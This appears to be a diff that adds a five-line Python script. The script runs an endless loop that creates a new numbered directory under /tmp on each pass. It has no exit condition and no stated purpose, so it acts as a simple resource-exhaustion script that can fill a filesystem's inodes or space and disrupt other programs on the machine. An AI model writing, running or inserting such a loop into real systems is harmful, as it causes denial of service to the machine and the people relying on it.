@@ -1,0 +1,5 @@
+import os
+number = 0
+while True:
+    os.mkdir(f"/tmp/{number}")
+    number += 1
